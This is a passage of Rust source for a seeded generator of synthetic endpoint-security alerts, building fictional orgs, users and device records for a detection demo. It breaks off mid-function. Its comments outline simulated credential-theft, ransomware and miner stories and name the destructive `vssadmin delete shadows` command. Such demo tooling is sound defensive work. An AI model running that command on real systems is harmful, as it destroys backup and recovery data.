//! Seeded attack stories: customer orgs (policies, users, devices) and self-consistent stories of
//! alerts, process documents and observations, in the shapes of `../shared/cbc/fixtures/`.
//!
//! Story kinds (weights for live stories and the random part of the backlog):
//! - credential theft + lateral movement (30 %): a dumper against lsass on one workstation, pass
//!   the hash to a harvested admin account, then PsExec (445) / WMI (135) / RDP (3389) / WinRM
//!   (5985) to 2–4 other Windows devices of the org, the same tool hash running on each;
//! - ransomware (25 %): a macro document in WINWORD → cmd → encoded PowerShell download →
//!   encryptor in %APPDATA% → `vssadmin delete shadows`, on one host, no internal spread;
//! - coin miner (20 %): an XMRig-like miner on a Linux or Windows server talking stratum;
//! - false positive / noise (25 %): an IT admin's PsExec, a scheduled PowerShell inventory script
//!   or a remote-management agent (benign), a blocked USB stick (DEVICE_CONTROL) or an outbound
//!   connection blocked by the host firewall (HOST_BASED_FIREWALL).
//!
//! Everything random comes from `StdRng` seeded from the seed: same seed, same arguments and the
//! same `now` give byte-identical documents. Stories are first drawn as compact plots (indices,
//! relative times) and only then rendered into JSON documents at absolute times, so the backlog
//! can be trimmed to an exact alert count and spread over the past before any JSON exists.
//!
//! External addresses come from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
//! 203.0.113.0/24) and domains end in `.example`-style reserved names, so IOC exports made from
//! the demo never point at real infrastructure.

use super::compact::EncodedStory;
use super::world::{CompactStory, Doc, OrgSpec, Policy, Story, StorySource};
use jiff::Timestamp;
use rand::distr::uniform::{SampleRange, SampleUniform};
use rand::rngs::StdRng;
use rand::seq::{IndexedRandom, SliceRandom};
use rand::{RngExt, SeedableRng};
use serde_json::{Value, json};
use std::cell::RefCell;
use std::fmt::Write as _;
use std::sync::{Arc, Mutex, PoisonError};

const SEC: i64 = 1_000;
const MIN: i64 = 60 * SEC;
const HOUR: i64 = 60 * MIN;
const DAY: i64 = 24 * HOUR;

/// Maximum number of customer orgs (one per name in the pools below).
pub const MAX_ORGS: usize = 20;

// ---------------------------------------------------------------------------------------------
// Public API
// ---------------------------------------------------------------------------------------------

/// The seeded scenario generator (see the module docs).
pub struct Generator {
    seed: u64,
    backlog: usize,
    orgs: Vec<Org>,
    live: StdRng,
}

impl Generator {
    /// `orgs` is clamped to `1..=20`; `backlog` is the exact number of alerts `backlog()` returns.
    /// Device timestamps (`last_contact_time`, ...) are relative to the wall clock at this call;
    /// use [`Generator::new_at`] for a fixed clock.
    pub fn new(seed: u64, orgs: usize, backlog: usize) -> Generator {
        Generator::new_at(seed, orgs, backlog, Timestamp::now())
    }

    /// Like [`Generator::new`] with an explicit clock for the device documents (tests, fixtures).
    pub fn new_at(seed: u64, orgs: usize, backlog: usize, now: Timestamp) -> Generator {
        let mut rng = StdRng::seed_from_u64(mix(seed, 0x6f72_6773));
        let orgs = make_orgs(&mut rng, orgs.clamp(1, MAX_ORGS), now.as_millisecond());
        Generator {
            seed,
            backlog,
            live: StdRng::seed_from_u64(mix(seed, 0x6c69_7665)),
            orgs,
        }
    }

    /// One story of `kind` for org `org` whose last alert arrives at `anchor` (tests, tools).
    fn story_at(&self, rng: &mut StdRng, kind: Kind, org: usize, anchor: i64, live: bool) -> Story {
        let plot = build(&self.orgs[org], rng, kind, Force::default());
        let base = anchor - plot.span();
        render(&self.orgs[org], &plot, base, anchor, live).story()
    }
}

impl StorySource for Generator {
    fn orgs(&self) -> Vec<OrgSpec> {
        self.orgs.iter().map(|o| o.spec()).collect()
    }

    fn next_story(&mut self, now: Timestamp) -> Option<(usize, Story)> {
        let org = self.live.random_range(0..self.orgs.len());
        let kind = Kind::random(&mut self.live);
        let mut rng = StdRng::seed_from_u64(self.live.random());
        Some((
            org,
            self.story_at(&mut rng, kind, org, now.as_millisecond(), true),
        ))
    }

    fn backlog(&mut self, now: Timestamp) -> Vec<(usize, Story)> {
        self.backlog_stories(now.as_millisecond(), Rendered::story, |s| s)
    }

    /// Stories are encoded on the rendering threads and finished (interned) on this one: see
    /// `compact.rs`.
    fn backlog_each(&mut self, now: Timestamp, sink: &mut dyn FnMut(usize, CompactStory)) {
        let stories =
            self.backlog_stories(now.as_millisecond(), Rendered::encode, EncodedStory::finish);
        for (org, story) in stories {
            sink(org, story);
        }
    }
}

/// Plots waiting for a rendering thread.
const RENDER_QUEUE: usize = 64;
/// Rendered stories waiting to be finished: enough that the rendering threads do not stall
/// whenever the finishing thread is off the CPU (on a small machine the threads share few
/// cores), few enough to bound memory (~10 KB a story).
const FINISH_QUEUE: usize = 1024;

impl Generator {
    /// The backlog, oldest first (by each story's first alert).
    ///
    /// Plots are drawn one after the other from one random stream (on a thread of their own);
    /// each is rendered and `work`ed on (encoded) by a worker thread as soon as it is drawn, and
    /// dropped; the result is `finish`ed (interned) on the calling thread. Only finished stories
    /// wait to be put in order, and those are what the store keeps anyway: the plots (~14 KB a
    /// story; all of them at once were most of the peak memory) and the rendered documents
    /// never exist all at once. Rendering is pure, so the stories do not depend on the thread
    /// count.
    fn backlog_stories<T: Send, U>(
        &self,
        now: i64,
        work: impl Fn(Rendered) -> T + Sync,
        mut finish: impl FnMut(T) -> U,
    ) -> Vec<(usize, U)> {
        let orgs = &self.orgs;
        let render_one = |org: usize, plot: Plot, anchor: i64| {
            let base = anchor - plot.span();
            work(render(&orgs[org], &plot, base, now, false))
        };
        let workers = std::thread::available_parallelism()
            .map_or(1, |n| n.get())
            .min(8);
        // (sort key, org, story) in drawing order.
        let mut drawn: Vec<(i64, usize, U)> = Vec::new();
        if workers < 2 || self.backlog < 1000 {
            self.draw_backlog(now, &mut |key, org, plot, anchor| {
                drawn.push((key, org, finish(render_one(org, plot, anchor))));
            });
        } else {
            let (queue, plots) = std::sync::mpsc::sync_channel(RENDER_QUEUE);
            // Owned by the render threads: should they all die, the drawing thread's `send`
            // fails instead of blocking forever.
            let plots = Arc::new(Mutex::new(plots));
            let (done_tx, done) = std::sync::mpsc::sync_channel(FINISH_QUEUE);
            let mut slots: Vec<Option<(i64, usize, U)>> = Vec::new();
            std::thread::scope(|scope| {
                scope.spawn(move || {
                    let mut k = 0;
                    self.draw_backlog(now, &mut |key, org, plot, anchor| {
                        // Only fails when the render threads are gone (they panicked).
                        let _ = queue.send((k, key, org, plot, anchor));
                        k += 1;
                    });
                });
                for _ in 0..workers {
                    let (plots, done_tx) = (plots.clone(), done_tx.clone());
                    scope.spawn(move || {
                        loop {
                            let next = plots.lock().unwrap_or_else(PoisonError::into_inner).recv();
                            let Ok((k, key, org, plot, anchor)) = next else {
                                return;
                            };
                            let story = render_one(org, plot, anchor);
                            // A closed channel: the consumer is gone (it panicked).
                            if done_tx.send((k, key, org, story)).is_err() {
                                return;
                            }
                        }
                    });
                }
                drop((plots, done_tx));
                for (k, key, org, story) in done {
                    if slots.len() <= k {
                        slots.resize_with(k + 1, || None);
                    }
                    slots[k] = Some((key, org, finish(story)));
                }
            });
            drawn = slots
                .into_iter()
                .map(|s| s.expect("a render thread panicked"))
                .collect();
        }
        // Stable: stories with equal keys keep their drawing order.
        drawn.sort_by_key(|(key, _, _)| *key);
        drawn
            .into_iter()
            .map(|(_, org, story)| (org, story))
            .collect()
    }

    /// Draws the backlog's plots in order, handing each to `f` with its sort key (time of its
    /// first alert), org and anchor (time of its last event).
    fn draw_backlog(&self, now: i64, f: &mut dyn FnMut(i64, usize, Plot, i64)) {
        let mut rng = StdRng::seed_from_u64(mix(self.seed, 0x6261_636b));
        let norgs = self.orgs.len();
        let mut total = 0usize;
        let mut cycle: Vec<usize> = Vec::new();
        let mut k = 0;
        while total < self.backlog {
            // The first stories give every org (in order) an SMB lateral movement and a
            // PowerShell process with a parent and children, so the SDK probe finds both.
            let (org, kind, force) = if k < 2 * norgs {
                let kind = if k.is_multiple_of(2) {
                    Kind::CredentialTheft
                } else if rng.random_bool(0.5) {
                    Kind::Ransomware
                } else {
                    Kind::FalsePositive
                };
                let force = Force {
                    psexec: true,
                    inventory: true,
                };
                (k / 2, kind, force)
            } else {
                let org = rng.random_range(0..norgs);
                (org, Kind::random(&mut rng), Force::default())
            };
            let mut plot = build(&self.orgs[org], &mut rng, kind, force);
            plot.alerts.truncate(self.backlog - total);
            total += plot.alerts.len();
            if cycle.is_empty() {
                cycle = AGE_CYCLE.to_vec();
                cycle.shuffle(&mut rng);
            }
            let (lo, hi) = AGE_BANDS[cycle.pop().unwrap_or(0)];
            let anchor = now - rng.random_range(lo * MIN..hi * MIN);
            let first = plot.alerts.iter().map(|a| a.backend).min().unwrap_or(0);
            f(anchor - plot.span() + first, org, plot, anchor);
            k += 1;
        }
    }
}

/// Ages of a backlog story's newest alert, in minutes: fresh (≈50 min of SLA left), ≈15 left,
/// ≈5 left, and breached by up to a few hours.
const AGE_BANDS: [(i64, i64); 7] = [
    (1, 10),
    (10, 35),
    (43, 48),
    (53, 57),
    (62, 150),
    (150, 300),
    (300, 480),
];
/// One cycle of band picks (shuffled per cycle) so even a small backlog covers every band.
const AGE_CYCLE: [usize; 10] = [0, 0, 1, 1, 2, 3, 4, 4, 5, 6];

// ---------------------------------------------------------------------------------------------
// Small helpers: time, ids, hashes
// ---------------------------------------------------------------------------------------------

fn mix(seed: u64, salt: u64) -> u64 {
    let mut s = seed ^ salt.rotate_left(32);
    splitmix(&mut s)
}

fn splitmix(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    })
}

/// `n` lowercase hex digits that depend only on `key` (hashes of well-known binaries, ids of
/// well-known watchlist reports): the same everywhere, whatever the seed.
fn stable_hex(key: &str, n: usize) -> String {
    let mut st = fnv(key);
    let mut out = String::with_capacity(n + 16);
    while out.len() < n {
        let _ = write!(out, "{:016x}", splitmix(&mut st));
    }
    out.truncate(n);
    out
}

fn rand_hex(rng: &mut StdRng, n: usize) -> String {
    let mut out = String::with_capacity(n + 16);
    while out.len() < n {
        let _ = write!(out, "{:016x}", rng.random::<u64>());
    }
    out.truncate(n);
    out
}

fn uuid_from(bytes: [u8; 16]) -> String {
    uuid::Builder::from_random_bytes(bytes)
        .into_uuid()
        .to_string()
}

fn rand_uuid(rng: &mut StdRng) -> String {
    uuid_from(rng.random())
}

/// A UUID (v4 layout) that depends only on `key`.
pub(super) fn stable_uuid(key: &str) -> String {
    let mut st = fnv(key);
    let (a, b) = (splitmix(&mut st), splitmix(&mut st));
    let mut bytes = [0u8; 16];
    bytes[..8].copy_from_slice(&a.to_be_bytes());
    bytes[8..].copy_from_slice(&b.to_be_bytes());
    uuid_from(bytes)
}

fn rand_letters(rng: &mut StdRng, n: usize) -> String {
    (0..n)
        .map(|_| char::from(b'a' + rng.random_range(0..26u8)))
        .collect()
}

/// ISO-8601 UTC with milliseconds and `Z`, e.g. `2023-08-03T00:23:09.659Z`.
fn iso(ms: i64) -> String {
    let secs = ms.div_euclid(1000);
    let milli = ms.rem_euclid(1000);
    let (days, sod) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{milli:03}Z",
        sod / 3600,
        sod % 3600 / 60,
        sod % 60
    )
}

/// Windows FILETIME (100 ns ticks since 1601) in lowercase hex, the last part of a process GUID.
fn filetime_hex(ms: i64) -> String {
    format!("{:x}", (ms + 11_644_473_600_000) * 10_000)
}

fn ip_str(ip: u32) -> String {
    std::net::Ipv4Addr::from(ip).to_string()
}

fn ip(a: u8, b: u8, c: u8, d: u8) -> u32 {
    u32::from_be_bytes([a, b, c, d])
}

/// A public-looking address from the documentation ranges (never real infrastructure).
fn external_ip(rng: &mut StdRng) -> u32 {
    let nets = [(192, 0, 2), (198, 51, 100), (203, 0, 113)];
    let (a, b, c) = *nets.choose(rng).unwrap_or(&(203, 0, 113));
    ip(a, b, c, rng.random_range(2..=254))
}

fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(A[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// PowerShell's `-EncodedCommand` form: Base64 of UTF-16LE.
fn ps_encode(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    b64(&bytes)
}

fn basename(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

// ---------------------------------------------------------------------------------------------
// Orgs, users, devices
// ---------------------------------------------------------------------------------------------

/// (name, japanese)
const ORG_NAMES: [(&str, bool); MAX_ORGS] = [
    ("Tanaka Logistics", true),
    ("Northwind Health", false),
    ("Kobe Precision", true),
    ("Blue Harbor Bank", false),
    ("Sakura Foods", true),
    ("Meridian Freight", false),
    ("Hokuriku Chemical", true),
    ("Atlas Biotech", false),
    ("Minato Trading", true),
    ("Evergreen Energy", false),
    ("Shirakawa Medical", true),
    ("Pinecrest University", false),
    ("Osaka Steelworks", true),
    ("Redwood Media", false),
    ("Aozora Insurance", true),
    ("Silverline Aviation", false),
    ("Fujimi Electronics", true),
    ("Harbor & Vine Hotels", false),
    ("Kitakyushu Marine", true),
    ("Contoso Retail", false),
];

const JP_SITES: [&str; 9] = [
    "TKY", "OSA", "NGY", "FUK", "SPR", "KOB", "YKH", "SDJ", "HIJ",
];
const INTL_SITES: [&str; 10] = [
    "NYC", "LON", "SFO", "SEA", "CHI", "FRA", "SYD", "SGP", "TOR", "AMS",
];
const DEPTS: [&str; 9] = ["FIN", "HR", "SLS", "ENG", "ADM", "MKT", "LOG", "LEG", "PRD"];

/// (romaji, kanji)
const JP_SURNAMES: [(&str, &str); 18] = [
    ("sato", "佐藤"),
    ("suzuki", "鈴木"),
    ("takahashi", "高橋"),
    ("tanaka", "田中"),
    ("watanabe", "渡辺"),
    ("ito", "伊藤"),
    ("yamamoto", "山本"),
    ("nakamura", "中村"),
    ("kobayashi", "小林"),
    ("kato", "加藤"),
    ("yoshida", "吉田"),
    ("yamada", "山田"),
    ("sasaki", "佐々木"),
    ("matsumoto", "松本"),
    ("inoue", "井上"),
    ("kimura", "木村"),
    ("hayashi", "林"),
    ("shimizu", "清水"),
];
const JP_GIVEN: [(&str, &str); 12] = [
    ("ken", "健"),
    ("yuki", "由紀"),
    ("hiroshi", "浩"),
    ("akiko", "明子"),
    ("takumi", "拓海"),
    ("misaki", "美咲"),
    ("daisuke", "大輔"),
    ("naoko", "直子"),
    ("kenta", "健太"),
    ("yui", "結衣"),
    ("shota", "翔太"),
    ("haruka", "遥"),
];
const INTL_SURNAMES: [&str; 16] = [
    "miller", "johnson", "brown", "davis", "wilson", "martinez", "anderson", "thomas", "taylor",
    "moore", "patel", "chen", "garcia", "nguyen", "schmidt", "okafor",
];
const INTL_GIVEN: [&str; 12] = [
    "james", "emily", "michael", "sarah", "david", "laura", "daniel", "olivia", "chris", "anna",
    "ravi", "mei",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Os {
    Windows,
    Mac,
    Linux,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Workstation,
    Server,
}

#[derive(Debug, Clone)]
struct User {
    /// `DOMAIN\x.name`
    account: String,
    /// `x.name`
    short: String,
    email: String,
    /// (family, given) as displayed; Japanese customers get kanji.
    display: (String, String),
}

#[derive(Debug, Clone)]
struct Dev {
    id: i64,
    name: String,
    os: Os,
    role: Role,
    os_version: &'static str,
    ip: u32,
    ip_s: String,
    ext_ip: String,
    policy: usize,
    target: &'static str,
    location: &'static str,
    /// `login_user_name` / alert `device_username`.
    login: String,
    /// Index into `Org::users` of the person using the device.
    user: usize,
    doc: Doc,
}

#[derive(Debug, Clone)]
struct Org {
    key: String,
    name: String,
    japanese: bool,
    domain: String,
    console: &'static str,
    policies: Vec<Policy>,
    users: Vec<User>,
    /// Index of the IT administrator's privileged account (`DOMAIN\adm.x`) in `users`.
    admin: usize,
    /// Index of the IT administrator's everyday account in `users`.
    it_person: usize,
    devices: Vec<Dev>,
    /// Servers the org shares files from (`\\HOST\it$`): a Windows server device index.
    file_server: usize,
}

impl Org {
    fn spec(&self) -> OrgSpec {
        OrgSpec {
            org_key: self.key.clone(),
            name: self.name.clone(),
            policies: self.policies.clone(),
            users: self.users.iter().map(|u| u.account.clone()).collect(),
            devices: self.devices.iter().map(|d| d.doc.clone()).collect(),
        }
    }

    fn windows(&self, role: Option<Role>) -> Vec<usize> {
        (0..self.devices.len())
            .filter(|&i| {
                let d = &self.devices[i];
                d.os == Os::Windows && role.is_none_or(|r| d.role == r)
            })
            .collect()
    }
}

fn make_orgs(rng: &mut StdRng, n: usize, created: i64) -> Vec<Org> {
    let mut next_dev_id: i64 = rng.random_range(4_000_000..9_000_000);
    let mut next_policy_id: i64 = rng.random_range(100_000..900_000);
    let mut subnets: Vec<(u8, u8)> = Vec::new();
    let mut keys: Vec<String> = Vec::new();
    let mut orgs = Vec::with_capacity(n);
    for &(name, japanese) in ORG_NAMES.iter().take(n) {
        let key = loop {
            const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
            let k: String = (0..8)
                .map(|_| char::from(*ALNUM.choose(rng).unwrap_or(&b'A')))
                .collect();
            if !keys.contains(&k) {
                break k;
            }
        };
        keys.push(key.clone());
        let subnet = loop {
            let s = (rng.random_range(1..=254u8), rng.random_range(0..=254u8));
            if !subnets.contains(&s) {
                break s;
            }
        };
        subnets.push(subnet);
        let org = make_org(
            rng,
            OrgSeed {
                key,
                name,
                japanese,
                subnet,
                created,
            },
            &mut next_dev_id,
            &mut next_policy_id,
        );
        orgs.push(org);
    }
    orgs
}

struct OrgSeed {
    key: String,
    name: &'static str,
    japanese: bool,
    subnet: (u8, u8),
    created: i64,
}

fn make_org(rng: &mut StdRng, s: OrgSeed, next_dev_id: &mut i64, next_policy_id: &mut i64) -> Org {
    let words: Vec<String> = s
        .name
        .split_whitespace()
        .map(|w| {
            w.chars()
                .filter(char::is_ascii_alphanumeric)
                .collect::<String>()
        })
        .filter(|w| !w.is_empty())
        .collect();
    let domain: String = words[0].to_uppercase().chars().take(15).collect();
    let mail_domain = if s.japanese {
        format!("{}.co.jp", words.join("-").to_lowercase())
    } else {
        format!("{}.com", words.concat().to_lowercase())
    };
    let console = if s.japanese {
        "defense-prodnrt.conferdeploy.net"
    } else if rng.random_bool(0.3) {
        "defense-eu.conferdeploy.net"
    } else {
        "defense.conferdeploy.net"
    };

    // Policies: 2–4.
    let execs = if s.japanese {
        "役員 (Executives)"
    } else {
        "Executives"
    };
    let n_policies = rng.random_range(2..=4usize);
    let mut policies = Vec::new();
    for name in ["Standard", "Servers - Strict", execs, "Developers"]
        .into_iter()
        .take(n_policies)
    {
        *next_policy_id += rng.random_range(1..5000);
        policies.push(Policy {
            id: *next_policy_id,
            name: name.to_string(),
        });
    }

    // Users: 5–12 accounts: people, plus the IT administrator's privileged `adm.` account.
    let n_people = rng.random_range(4..=11usize);
    let mut users: Vec<User> = Vec::new();
    while users.len() < n_people {
        let (short, display) = if s.japanese {
            let (sur, sur_k) = *JP_SURNAMES.choose(rng).unwrap_or(&JP_SURNAMES[0]);
            let (given, given_k) = *JP_GIVEN.choose(rng).unwrap_or(&JP_GIVEN[0]);
            (
                format!("{}.{sur}", &given[..1]),
                (sur_k.to_string(), given_k.to_string()),
            )
        } else {
            let sur = *INTL_SURNAMES.choose(rng).unwrap_or(&"miller");
            let given = *INTL_GIVEN.choose(rng).unwrap_or(&"james");
            let cap = |w: &str| w[..1].to_uppercase() + &w[1..];
            (format!("{}.{sur}", &given[..1]), (cap(sur), cap(given)))
        };
        if users.iter().any(|u| u.short == short) {
            continue;
        }
        users.push(User {
            account: format!("{domain}\\{short}"),
            email: format!("{short}@{mail_domain}"),
            short,
            display,
        });
    }
    let it_person = 0;
    let adm_short = format!("adm.{}", users[0].short);
    users.push(User {
        account: format!("{domain}\\{adm_short}"),
        email: format!("{adm_short}@{mail_domain}"),
        short: adm_short,
        display: users[0].display.clone(),
    });
    let admin = users.len() - 1;

    // Devices: 8–40.
    let sites_pool: &[&str] = if s.japanese { &JP_SITES } else { &INTL_SITES };
    let mut sites: Vec<&str> = sites_pool.sample(rng, 2).copied().collect();
    sites.truncate(rng.random_range(1..=2));
    let site = sites[0];
    let n_dev = rng.random_range(8..=40usize);
    let mut octets: Vec<u8> = (10..=250).collect();
    octets.shuffle(rng);
    let egress = external_ip(rng);

    struct Plan {
        name: String,
        os: Os,
        role: Role,
        policy: usize,
        target: &'static str,
        user: usize,
    }
    let mut plan: Vec<Plan> = Vec::new();
    let server = |name: String, os: Os, target| Plan {
        name,
        os,
        role: Role::Server,
        policy: 1,
        target,
        user: admin,
    };
    plan.push(server(
        format!("{site}-DC01"),
        Os::Windows,
        "MISSION_CRITICAL",
    ));
    plan.push(server(format!("{site}-FS01"), Os::Windows, "HIGH"));
    let win_servers = ["SQL01", "APP01", "EXCH01", "WSUS01", "APP02", "PRINT01"];
    for name in win_servers.iter().take(n_dev / 12) {
        plan.push(server(format!("{site}-{name}"), Os::Windows, "HIGH"));
    }
    let linux_servers = ["web01", "db01", "git01", "build01"];
    for name in linux_servers.iter().take(1 + n_dev / 16) {
        plan.push(server(
            format!("{}-{name}", site.to_lowercase()),
            Os::Linux,
            "HIGH",
        ));
    }
    let n_mac = rng.random_range(0..=n_dev / 10);
    let mut ws_numbers: Vec<u32> = (1..=250).collect();
    ws_numbers.shuffle(rng);
    let mut person = 0usize;
    let n_people = users.len() - 1;
    let mut ws = 0usize;
    while plan.len() < n_dev {
        let user = person % n_people;
        person += 1;
        let num = ws_numbers[ws % ws_numbers.len()];
        let wsite = *sites.choose(rng).unwrap_or(&site);
        let is_mac = ws > 0 && ws <= n_mac;
        let dept = if ws == 0 {
            "IT"
        } else {
            *DEPTS.choose(rng).unwrap_or(&"ADM")
        };
        ws += 1;
        let (name, os) = if is_mac {
            (format!("{wsite}-MAC-{num:03}"), Os::Mac)
        } else if rng.random_bool(0.3) {
            (format!("{wsite}-{dept}-NB{num:03}"), Os::Windows)
        } else {
            (format!("{wsite}-{dept}-WS{num:03}"), Os::Windows)
        };
        let (policy, target) = if policies.len() > 2 && dept == "ADM" {
            (2, "HIGH")
        } else if policies.len() > 3 && (dept == "IT" || dept == "ENG") {
            (3, "MEDIUM")
        } else if rng.random_bool(0.3) {
            (0, "MEDIUM")
        } else {
            (0, "LOW")
        };
        plan.push(Plan {
            name,
            os,
            role: Role::Workstation,
            policy,
            target,
            user,
        });
    }

    let mut devices = Vec::with_capacity(plan.len());
    for (i, p) in plan.into_iter().enumerate() {
        *next_dev_id += rng.random_range(1..3000);
        let ipv4 = ip(10, s.subnet.0, s.subnet.1, octets[i % octets.len()]);
        let os_version = match (p.os, p.role) {
            (Os::Windows, Role::Server) => *["Windows Server 2019 x64", "Windows Server 2022 x64"]
                .choose(rng)
                .unwrap_or(&""),
            (Os::Windows, Role::Workstation) => {
                *["Windows 10 x64", "Windows 11 x64", "Windows 11 x64"]
                    .choose(rng)
                    .unwrap_or(&"")
            }
            (Os::Linux, _) => *[
                "Ubuntu 22.04.4 LTS",
                "Red Hat Enterprise Linux 8.9",
                "Ubuntu 20.04.6 LTS",
            ]
            .choose(rng)
            .unwrap_or(&""),
            (Os::Mac, _) => *["MAC OS X 14.4.1", "MAC OS X 13.6.6"]
                .choose(rng)
                .unwrap_or(&""),
        };
        let offsite = p.role == Role::Workstation && rng.random_bool(0.15);
        let ext_ip = if offsite { external_ip(rng) } else { egress };
        let user = &users[p.user];
        let login = match (p.os, p.role) {
            (Os::Linux, _) => "root".to_string(),
            (Os::Mac, _) => user.email.clone(),
            _ => user.account.clone(),
        };
        let mut dev = Dev {
            id: *next_dev_id,
            name: p.name,
            os: p.os,
            role: p.role,
            os_version,
            ip: ipv4,
            ip_s: ip_str(ipv4),
            ext_ip: ip_str(ext_ip),
            policy: p.policy,
            target: p.target,
            location: if offsite { "OFFSITE" } else { "ONSITE" },
            login,
            user: p.user,
            doc: Doc::new(),
        };
        dev.doc = device_doc(rng, &dev, user, &policies[p.policy], s.name, s.created);
        devices.push(dev);
    }
    Org {
        key: s.key,
        name: s.name.to_string(),
        japanese: s.japanese,
        domain,
        console,
        policies,
        users,
        admin,
        it_person,
        devices,
        file_server: 1,
    }
}

fn device_doc(
    rng: &mut StdRng,
    d: &Dev,
    user: &User,
    policy: &Policy,
    org_name: &str,
    created: i64,
) -> Doc {
    let (kit, sensor, kernel) = match d.os {
        Os::Windows => (
            "WINDOWS",
            *["4.0.1.1428", "3.9.3.1049", "4.0.2.1598"]
                .choose(rng)
                .unwrap_or(&""),
            Value::Null,
        ),
        Os::Mac => (
            "MAC",
            *["3.8.0.627", "3.8.1.14"].choose(rng).unwrap_or(&""),
            Value::Null,
        ),
        Os::Linux => {
            let kit = if d.os_version.starts_with("Red Hat") {
                "RHEL"
            } else {
                "UBUNTU"
            };
            let kernel = if kit == "RHEL" {
                "4.18.0-513.24.1.el8_9.x86_64"
            } else {
                "5.15.0-105-generic"
            };
            (kit, "2.15.2.1366739", json!(kernel))
        }
    };
    let server = d.role == Role::Server;
    let registered = created - rng.random_range(30 * DAY..600 * DAY);
    let policy_changed = registered + rng.random_range(HOUR..10 * DAY);
    let fields: Vec<(&str, Value)> = vec![
        ("activation_code", json!(null)),
        (
            "activation_code_expiry_time",
            json!(iso(registered - 7 * DAY)),
        ),
        (
            "ad_group_id",
            json!(if d.os == Os::Windows {
                rng.random_range(1000..9000)
            } else {
                0
            }),
        ),
        ("appliance_name", json!(null)),
        ("appliance_uuid", json!(null)),
        (
            "asset_group",
            json!([{
                "id": stable_uuid(&format!("{org_name}/{}", if server { "Servers" } else { "Workstations" })),
                "name": if server { "Servers" } else { "Workstations" },
                "membership_type": "DYNAMIC",
            }]),
        ),
        (
            "av_ave_version",
            json!(if d.os == Os::Windows {
                json!("8.3.64.214")
            } else {
                Value::Null
            }),
        ),
        (
            "av_engine",
            json!(if d.os == Os::Windows {
                json!("4.14.3.454-ave.8.3.64.214:avpack.8.5.0.188:vdf.8.20.15.28")
            } else {
                Value::Null
            }),
        ),
        ("av_last_scan_time", json!(null)),
        ("av_master", json!(false)),
        (
            "av_pack_version",
            json!(if d.os == Os::Windows {
                json!("8.5.0.188")
            } else {
                Value::Null
            }),
        ),
        (
            "av_product_version",
            json!(if d.os == Os::Windows {
                json!("4.14.3.454")
            } else {
                Value::Null
            }),
        ),
        (
            "av_status",
            json!(if d.os == Os::Windows {
                json!(["AV_ACTIVE", "ONDEMAND_SCAN_DISABLED"])
            } else {
                json!(["AV_NOT_REGISTERED"])
            }),
        ),
        ("av_update_servers", json!(null)),
        (
            "av_vdf_version",
            json!(if d.os == Os::Windows {
                json!("8.20.15.28")
            } else {
                Value::Null
            }),
        ),
        ("cluster_name", json!(null)),
        ("current_sensor_policy_name", json!(policy.name)),
        ("datacenter_name", json!(null)),
        (
            "deployment_type",
            json!(if server { "WORKLOAD" } else { "ENDPOINT" }),
        ),
        ("deregistered_time", json!(null)),
        ("device_meta_data_item_list", json!([])),
        ("device_owner_id", json!(rng.random_range(100_000..999_999))),
        ("email", json!(user.email)),
        ("esx_host_name", json!(null)),
        ("esx_host_uuid", json!(null)),
        (
            "first_name",
            if server {
                Value::Null
            } else {
                json!(user.display.1)
            },
        ),
        ("id", json!(d.id)),
        (
            "last_contact_time",
            json!(iso(created - rng.random_range(5 * SEC..10 * MIN))),
        ),
        (
            "last_device_policy_changed_time",
            json!(iso(policy_changed)),
        ),
        (
            "last_device_policy_requested_time",
            json!(iso(created - rng.random_range(MIN..DAY))),
        ),
        ("last_external_ip_address", json!(d.ext_ip)),
        ("last_internal_ip_address", json!(d.ip_s)),
        ("last_location", json!(d.location)),
        (
            "last_name",
            if server {
                Value::Null
            } else {
                json!(user.display.0)
            },
        ),
        ("last_policy_updated_time", json!(iso(policy_changed))),
        (
            "last_reported_time",
            json!(iso(created - rng.random_range(MIN..HOUR))),
        ),
        ("last_reset_time", json!(null)),
        ("last_shutdown_time", json!(null)),
        ("linux_kernel_version", json!(kernel)),
        ("login_user_name", json!(d.login)),
        ("mac_address", json!(rand_hex(rng, 12))),
        ("middle_name", json!(null)),
        ("name", json!(d.name)),
        (
            "organization_id",
            json!((fnv(org_name) % 90_000 + 10_000) as i64),
        ),
        ("organization_name", json!(org_name)),
        (
            "os",
            json!(match d.os {
                Os::Windows => "WINDOWS",
                Os::Mac => "MAC",
                Os::Linux => "LINUX",
            }),
        ),
        ("os_version", json!(d.os_version)),
        ("passive_mode", json!(false)),
